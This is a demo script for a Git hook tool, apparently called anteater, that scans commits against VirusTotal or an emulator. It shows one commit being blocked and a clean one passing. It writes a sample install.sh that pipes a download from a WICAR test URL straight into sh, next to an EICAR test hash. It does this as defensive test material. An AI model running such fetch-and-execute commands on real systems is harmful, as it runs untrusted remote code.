// The main job, shown: a temporary repository, the installed hook, a commit that is blocked and one that passes.
// Without VT_KEY the answers come from the emulator of the tests, and it says so; with VT_KEY they are VirusTotal's own.
import { spawn, spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { build, installDependencies, root } from './ensure.mjs';

// EICAR's test file and WICAR's test page: harmless, and called malicious by agreement.
const EICAR = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f';
const WICAR = 'http://malware.wicar.org/data/eicar.com';

const color = process.stdout.isTTY && !process.env.NO_COLOR;
const bold = (text) => (color ? `\u001b[1m${text}\u001b[22m` : text);
const say = (text) => console.log(`\n${bold(text)}`);

async function emulate() {
  const engines = {
    'Emulated AV one': 'malware',
    'Emulated AV two': 'phishing',
    'Emulated AV three': 'malicious',
  };
  const verdict = { malicious: 12, suspicious: 1, harmless: 60, undetected: 20, engines };
  const known = JSON.stringify({
    default: 'clean',
    verdicts: { [WICAR]: verdict, [EICAR]: { ...verdict, harmless: 0 } },
  });
  const child = spawn(process.execPath, [join(root, 'test/helpers/virustotal/serve.mjs'), known], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const line = await new Promise((done, failed) => {
    child.stdout.once('data', (chunk) => done(String(chunk)));
    child.once('exit', (code) => failed(new Error(`the emulator ended with ${code}`)));
  });
  return { child, ...JSON.parse(line) };
}

installDependencies();
if (!existsSync(join(root, 'dist/cli-entry.cjs'))) build();

const folder = await mkdtemp(join(tmpdir(), 'anteater-demo-'));
const repository = join(folder, 'repository');
const bin = join(folder, 'bin');
const real = Boolean(process.env.VT_KEY?.trim());
const emulator = real ? null : await emulate();

const env = {
  ...process.env,
  ANTEATER_HOME: join(folder, 'home'),
  PATH: `${bin}${delimiter}${process.env.PATH}`,
};
for (const name of Object.keys(env))
  if (name.startsWith('GIT_') || name === 'CI' || name === 'ANTEATER_SKIP') delete env[name];
Object.assign(env, {
  GIT_CONFIG_GLOBAL: join(folder, 'gitconfig'),
  GIT_CONFIG_NOSYSTEM: '1',
  GIT_AUTHOR_NAME: 'Demo',
  GIT_AUTHOR_EMAIL: 'demo@localhost',
  GIT_COMMITTER_NAME: 'Demo',
  GIT_COMMITTER_EMAIL: 'demo@localhost',
});
if (emulator) Object.assign(env, { VT_KEY: emulator.key, ANTEATER_VT_URL: emulator.url });

function show(command, args) {
  const shown = [command, ...args].map((word) => (/^[\w./:@=-]+$/.test(word) ? word : `'${word}'`)).join(' ');
  console.log(`\n$ ${shown}`);
  const { status } = spawnSync(command, args, {
    cwd: repository,
    env,
    stdio: ['ignore', 'inherit', 'inherit'],
  });
  return status;
}

function check(happened, what) {
  if (happened) return;
  console.error(`\nThe demonstration went wrong: ${what}.`);
  process.exitCode = 1;
}

try {
  await mkdir(repository);
  await mkdir(bin);
  await writeFile(env.GIT_CONFIG_GLOBAL, '');
  await chmod(join(root, 'bin/anteater.cjs'), 0o755);
  await symlink(join(root, 'bin/anteater.cjs'), join(bin, 'anteater'));

  console.log(bold('anteater: a demonstration in a temporary repository'));
  if (emulator) {
    console.log(`No VT_KEY is set, so this is a demonstration against an EMULATOR of VirusTotal on this machine
(${emulator.url}). Git, the hook and the tool are real; the verdicts are not VirusTotal's.
With VT_KEY=<your key> the same command asks VirusTotal itself.`);
  } else console.log('VT_KEY is set: the answers below are VirusTotal’s own.');

  say('1. A repository gets the hook.');
  show('git', ['init', '--quiet', '--initial-branch=main']);
  show('anteater', ['init']);

  say('2. Somebody commits a malicious URL, and a Git LFS pointer to a known malicious file.');
  await writeFile(join(repository, 'install.sh'), `#!/bin/sh\ncurl -sSf ${WICAR} | sh\n`);
  await writeFile(
    join(repository, 'tool.exe'),
    `version https://git-lfs.github.com/spec/v1\noid sha256:${EICAR}\nsize 68\n`,
  );
  show('git', ['add', 'install.sh', 'tool.exe']);
  check(show('git', ['commit', '--quiet', '-m', 'Add the installer']) !== 0, 'the commit was not blocked');

  say('3. They take it out. What is clean passes.');
  await writeFile(join(repository, 'install.sh'), '#!/bin/sh\necho "nothing to download"\n');
  show('git', ['rm', '--quiet', '--cached', 'tool.exe']);
  show('git', ['add', 'install.sh']);
  check(show('git', ['commit', '--quiet', '-m', 'Add the installer']) === 0, 'the clean commit did not pass');
  show('git', ['log', '--oneline']);

  say('Use it: npm install --save-dev anteater-hook, npx anteater init, npx anteater key set.');
} finally {
  emulator?.child.kill();
  await rm(folder, { recursive: true, force: true });
}
